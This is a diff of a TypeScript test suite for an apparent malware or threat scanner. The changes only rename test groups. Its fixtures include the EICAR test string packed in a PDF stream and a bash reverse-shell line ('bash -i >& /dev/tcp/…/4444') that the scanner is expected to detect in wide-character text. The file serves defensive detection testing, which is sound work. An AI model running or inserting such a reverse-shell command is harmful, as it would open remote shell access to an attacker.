@@ -30,14 +30,14 @@ async function examined(bytes: Buffer, name = 'file'): Promise<Examination> {
 const latin = (text: string) => Buffer.from(text, 'latin1');
 const WORDS = latin('Words that nobody needs to read.\n'.repeat(20));
 
-describe('what programs of Python and of networks wrote', () => {
+describe('output of Python programs and network tools', () => {
   test.each([...SAVED_VALUES])('is read: %s', async (_, bytes) => {
     const { threat, unread } = await examined(bytes);
     expect([typeof threat, unread]).toEqual(['string', []]);
   });
 });
 
-describe('what looks alike is none of them', () => {
+describe('similar files of other kinds', () => {
   test.each([
     ['a list of words', 'cat\ndog\nItem one\nplus two\n.'],
     ['a letter in brackets', '(the first of them)\np1 is the second.\n'],
@@ -189,7 +189,7 @@ describe('base85 that nothing names', () => {
   });
 });
 
-describe('what is written as letters in a stream of a PDF', () => {
+describe('files written as letters in a stream of a PDF', () => {
   const zipped = zip([{ name: 'eicar.com', content: EICAR }]);
   const base64 = zipped.toString('base64');
   const pdf = (stream: Buffer, filter = '') =>
@@ -214,7 +214,7 @@ describe('what is written as letters in a stream of a PDF', () => {
   });
 });
 
-describe('a text of wide letters amid other bytes', () => {
+describe('a text of wide letters between other bytes', () => {
   const LINE = 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 # and some words behind it\n';
   const wide = (width: number, is_big: boolean) =>
     Buffer.concat(
